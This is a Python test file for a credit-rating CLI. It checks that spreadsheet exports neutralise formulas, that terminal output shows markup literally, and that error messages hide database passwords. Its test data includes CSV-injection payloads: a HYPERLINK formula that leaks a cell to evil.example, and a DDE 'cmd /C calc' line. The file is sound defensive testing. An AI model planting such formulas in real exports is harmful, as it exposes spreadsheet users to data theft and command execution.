"""What the CLI writes is data, never instructions: to a spreadsheet, to a terminal, to a log.

- CSV and XLSX: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a
  formula to Excel and LibreOffice (CSV injection); such text cells are written with a leading
  `'`, by one module (`service.ratings.exports`) that every export goes through.
- Terminal: an institution's name, a finding's reference or a platform's message is printed
  as it is, never read as rich markup (`[bold]`, `[/]`, `[link=…]`) or emoji codes.
- Messages: no setting that can hold a secret (the database URL's password, the platform
  secret) is ever echoed in an error message.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlalchemy.engine import make_url
from typer.testing import CliRunner, Result

from scoring.shipped import SAMPLE_DIR, load_rules
from service.cli import app
from service.core.database import make_engine, writing
from service.core.migrate import upgrade
from service.core.settings import Settings
from service.core.tables import deliveries
from service.ratings import publishing
from service.records.importing import import_files
from tests.servers import ROOT

PENALISED = "52120111MJ06185738"  # 博文: the institution with findings in 2023

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MARKUP = [
    "[/]",
    "[bold]x[/bold]",
    "[link=http://x]y[/link]",
    "天津[red]市[/red]西青区:thumbs_up:培训学校",
    "[/bold]",
]


def run(*args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(app, list(args), env=env)


def institutions_named(tmp_path: Path, names: list[str]) -> tuple[Path, dict[str, str]]:
    """The sample institutions with the first few renamed; returns the file and each name."""
    with (SAMPLE_DIR / "institutions.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    for row, name in zip(rows, names, strict=False):
        row["name"] = name
    path = tmp_path / "institutions.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path, {row["uscc"]: row["name"] for row in rows}


# CSV injection ---------------------------------------------------------------------------------


def test_rate_csv_neutralises_formulas_and_keeps_chinese_and_numbers(tmp_path: Path) -> None:
    path, names = institutions_named(tmp_path, [*FORMULAS, "a=b-c+d@e"])
    result = run("rate", "--year", "2023", "--institutions", str(path), "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(names)
    for row in rows:
        name = names[row["uscc"]]
        if name in FORMULAS:
            assert row["name"] == "'" + name  # shown as text, exactly as written after the '
        else:
            assert row["name"] == name  # "a=b-c+d@e" and every Chinese name untouched
        assert row["name"][:1] not in ("=", "+", "-", "@", "\t", "\r")
        assert int(row["score"]) >= 0 and row["score"] == row["score"].strip()
    assert sum("培训学校" in row["name"] for row in rows) == len(names) - len(FORMULAS) - 1
    # The same rating as JSON has the names as written: only the CSV is neutralised.
    as_json = run("rate", "--year", "2023", "--institutions", str(path), "--format", "json")
    assert {r["uscc"]: r["name"] for r in json.loads(as_json.stdout)} == names


def test_every_csv_cell_that_could_be_a_formula_is_neutralised() -> None:
    """The one function every CSV goes through, cell by cell: text is prefixed, numbers are
    left as numbers."""
    import pandas as pd

    from service.ratings.exports import csv_text

    frame = pd.DataFrame(
        {
            "text": [*FORMULAS, "ok", "中文", "", "'already"],
            "number": range(10),
            "ratio": [0.5] * 10,
        }
    )
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows[0] == ["text", "number", "ratio"]
    assert [r[0] for r in rows[1:]] == [
        *("'" + f for f in FORMULAS),
        "ok",
        "中文",
        "",
        "'already",
    ]
    assert [r[1] for r in rows[1:]] == [str(n) for n in range(10)]
    assert {r[2] for r in rows[1:]} == {"0.5"}


def test_the_neutraliser_is_defined_once_and_the_cli_uses_it() -> None:
    from service.cli import render
    from service.ratings import exports

    assert render.csv_text is exports.csv_text
    for path in (ROOT / "service").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name != "exports.py":
            assert "FORMULA_STARTS =" not in text and "def spreadsheet_text" not in text, path


def test_csv_bytes_are_for_excel_bom_crlf_and_neutralised() -> None:
    from service.ratings.exports import csv_bytes

    cells = [
        *FORMULAS,
        "a=b-c+d@e",
        "中文，含逗号",
        'say "hi"',
        "two\nlines",
        "",
        None,
        7,
        0.5,
        True,
    ]
    data = csv_bytes(["=名称", "值"], [[c, n] for n, c in enumerate(cells)])
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["'=名称", "值"]
    expected = [*("'" + f for f in FORMULAS), "a=b-c+d@e", "中文，含逗号", 'say "hi"']
    expected += ["two\nlines", "", "", "7", "0.5", "是"]
    assert [r[0] for r in rows[1:]] == expected
    assert [r[1] for r in rows[1:]] == [str(n) for n in range(len(cells))]
    # Every record ends with CRLF; a CR inside a cell is inside quotes, never a record's end.
    assert text.endswith("\r\n") and text.count("\r\n") == len(cells) + 1
    assert '"\'\r=1+1"' in text and '"two\nlines"' in text


def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers() -> None:
    import openpyxl

    from service.ratings.exports import Sheet, xlsx_bytes

    names = [*FORMULAS, "a=b-c+d@e", "天津市西青区博文培训学校", "bell\x07and\x00nul"]
    data = xlsx_bytes(
        [Sheet("机构", ["=名称", "得分"], [[name, n] for n, name in enumerate(names)])]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data))["机构"]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ["'=名称", "得分"]
    for (name, score), (n, written) in zip(rows[1:], enumerate(names), strict=True):
        assert name.data_type == "s" and score.data_type == "n" and score.value == n
        if written in FORMULAS:  # XML reads a carriage return as a line feed
            assert name.value == "'" + written.replace("\r", "\n")
        elif "\x07" in written:  # XML cannot carry it: replaced, never a broken file
            assert name.value == "bell\ufffdand\ufffdnul"
        else:
            assert name.value == written


# Terminal markup -------------------------------------------------------------------------------


def test_rate_table_prints_markup_in_names_literally(tmp_path: Path) -> None:
    path, _ = institutions_named(tmp_path, MARKUP)
    result = run("rate", "--year", "2023", "--institutions", str(path))
    assert result.exit_code == 0, result.stderr
    for name in MARKUP:
        assert name in result.stdout, name


def test_explain_prints_markup_in_names_references_and_notes_literally(tmp_path: Path) -> None:
    institutions, _ = institutions_named(tmp_path, [])
    rows = list(csv.DictReader((SAMPLE_DIR / "institutions.csv").open(encoding="utf-8")))
    renamed = [
        {**r, "name": "[bold]博文[/bold]" if r["uscc"] == PENALISED else r["name"]} for r in rows
    ]
    with institutions.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(renamed)
    with (SAMPLE_DIR / "findings.csv").open(encoding="utf-8", newline="") as f:
        found = list(csv.DictReader(f))
    mine = [r for r in found if r["uscc"] == PENALISED and r["occurred_on"].startswith("2023")]
    assert len(mine) >= 2
    mine[0]["reference"] = "[/]"
    mine[0]["note"] = "[link=http://x]y[/link]"
    mine[1]["reference"] = "[red]西青教罚[/red]"
    findings = tmp_path / "findings.csv"
    with findings.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(found[0]))
        writer.writeheader()
        writer.writerows(found)
    result = run(
        "explain",
        "--year",
        "2023",
        PENALISED,
        "--institutions",
        str(institutions),
        "--findings",
        str(findings),
    )
    assert result.exit_code == 0, result.stderr
    for text in ("[bold]博文[/bold]", "[/]", "[red]西青教罚[/red]"):
        assert text in result.stdout, text


def test_evaluate_table_prints_markup_in_stored_names_literally(tmp_path: Path) -> None:
    path, _ = institutions_named(tmp_path, MARKUP)
    env = {"CREDIT_DATABASE_URL": f"sqlite:///{tmp_path / 'cli.db'}"}
    imported = run("import", str(path), str(SAMPLE_DIR / "findings.csv"), env=env)
    assert imported.exit_code == 0, imported.stderr
    result = run("evaluate", "--year", "2023", env=env)
    assert result.exit_code == 0, result.stderr
    for name in MARKUP:
        assert name in result.stdout, name


def test_share_status_prints_markup_in_platform_messages_literally(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    engine = make_engine(url)
    try:
        upgrade(engine)
        files = [SAMPLE_DIR / "institutions.csv", SAMPLE_DIR / "findings.csv"]
        import_files(engine, files, rules=load_rules(), by="tests")
        with writing(engine) as conn:
            publishing.compute_draft(conn, rules=load_rules(), year=2023, scale="four", by="t")
            publishing.publish(conn, year=2023, revision=None, reason=None, by="tests")
        with writing(engine) as conn:
            conn.execute(
                update(deliveries).values(
                    state="dead", attempts=8, last_error="422 [/] [bold]x[/bold] [link=http://x]y"
                )
            )
    finally:
        engine.dispose()
    result = run("share", "--status", env={"CREDIT_DATABASE_URL": url})
    assert result.exit_code == 0, result.stderr
    assert "422 [/] [bold]x[/bold] [link=http://x]y" in result.stdout


def test_progress_descriptions_are_not_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    """`share` on a terminal shows each batch's id and outcome in its progress bar."""
    from types import SimpleNamespace

    from rich.console import Console

    from service.cli import render

    screen = io.StringIO()
    terminal = Console(file=screen, force_terminal=True, width=120)
    monkeypatch.setattr(render, "console", lambda stderr=False: terminal)
    with render.progress(1) as advance:
        advance("[/][/] [link=http://x]", SimpleNamespace(outcome="[bold]delivered"))
    assert "[/][/] [link=http://x] [bold]delivered" in screen.getvalue()


def test_a_real_process_prints_a_markup_name_literally(tmp_path: Path) -> None:
    """Outside CliRunner: the console a user's terminal gets."""
    path, _ = institutions_named(tmp_path, ["[/]"])
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "service.cli",
            "rate",
            "--year",
            "2023",
            "--institutions",
            f"{path}",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env=os.environ,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert "[/]" in result.stdout


# Secrets in messages ---------------------------------------------------------------------------

SECRET = "s3cret-Pa55"


@pytest.mark.parametrize(
    "url",
    [
        f"mysql://user:{SECRET}@host/db",  # refused by the settings
        f"postgresql://user:{SECRET}",  # no "@": the password reads as a port
        f"postgresql://user:{SECRET}@host:port/db",
        f"postgresql://user:{SECRET}@[::1/db",
        f"postgresql://user:{SECRET}@",
        f"postgresql://user:{SECRET}@127.0.0.1:9/db",  # nothing listens there
        f"postgresql://user:{SECRET}@127.0.0.1:9/db?connect_timeout=1&sslmode=junk",
        # An "@" in the password not written %40: the rest of it would read as the host.
        "postgresql://user:s3cret@Pa55@127.0.0.1:9/db",
    ],
)
def test_a_database_password_never_appears_in_a_message(url: str) -> None:
    for command in (["verify"], ["share", "--status"], ["import", str(SAMPLE_DIR / "x.csv")]):
        result = run(*command, env={"CREDIT_DATABASE_URL": url})
        assert result.exit_code == 1 and result.stdout == "", (command, result.output)
        assert result.exception is None or isinstance(result.exception, SystemExit), command
        assert result.stderr.startswith("error:"), result.stderr
        for part in (SECRET, "s3cret", "Pa55"):
            assert part not in result.stderr, result.stderr


def test_a_configuration_error_names_the_variable_without_its_value() -> None:
    result = run("verify", env={"CREDIT_DATABASE_URL": f"mysql://user:{SECRET}@host/db"})
    assert result.exit_code == 1
    assert "CREDIT_DATABASE_URL" in result.stderr and "sqlite:///" in result.stderr
    assert SECRET not in result.stderr and "mysql://" not in result.stderr
    # Another setting wrong, the secrets set right: neither secret is shown.
    env = {
        "CREDIT_DATABASE_URL": f"postgresql://user:{SECRET}@127.0.0.1:9/db",
        "CREDIT_PLATFORM_SECRET": SECRET + "-platform",
        "CREDIT_PORT": "0",
    }
    result = run("verify", env=env)
    assert result.exit_code == 1 and "CREDIT_PORT" in result.stderr, result.stderr
    assert SECRET not in result.stderr


def test_a_real_process_with_a_mistyped_database_url_shows_no_password_nor_traceback() -> None:
    for url in (f"mysql://user:{SECRET}@host/db", f"postgresql://user:{SECRET}"):
        result = subprocess.run(
            [sys.executable, "-m", "service.cli", "verify"],
            cwd=ROOT,
            capture_output=True,
            text=True,
            env={**os.environ, "CREDIT_DATABASE_URL": url},
        )
        assert result.returncode == 1 and result.stdout == ""
        assert result.stderr.startswith("error:") and "Traceback" not in result.stderr
        assert SECRET not in result.stderr, result.stderr
        assert len(result.stderr) < 1000, result.stderr


def test_a_database_that_refuses_the_connection_is_named_without_the_password(
    postgres_admin: str,
) -> None:
    """The server itself answers (no such role, no such database): psycopg's message names the
    server, the user and the database, never the password."""
    admin = make_url(postgres_admin)
    for user, database in (("nobody", "postgres"), (admin.username, "no_such_database")):
        url = admin.set(username=user, password=SECRET, database=database)
        plain = url.render_as_string(hide_password=False).replace("+psycopg", "")
        result = run("verify", env={"CREDIT_DATABASE_URL": plain})
        assert result.exit_code == 1, result.output
        assert result.stderr.startswith("error: the database"), result.stderr
        assert SECRET not in result.stderr, result.stderr


def test_the_database_serve_names_is_shown_without_its_password() -> None:
    """`credit-rating serve` prints which database it serves from (service/cli/commands.py)."""
    shown = Settings(
        database_url=f"postgresql://user:{SECRET}@db.example:5432/credit"
    ).database_shown
    assert SECRET not in shown and "user" in shown and "db.example:5432/credit" in shown
    assert Settings(database_url="sqlite:///var/x.db").database_shown == "sqlite:///var/x.db"
    serve = (ROOT / "service" / "cli" / "commands.py").read_text(encoding="utf-8")
    assert "settings.database_shown" in serve and "{settings.database_url}" not in serve
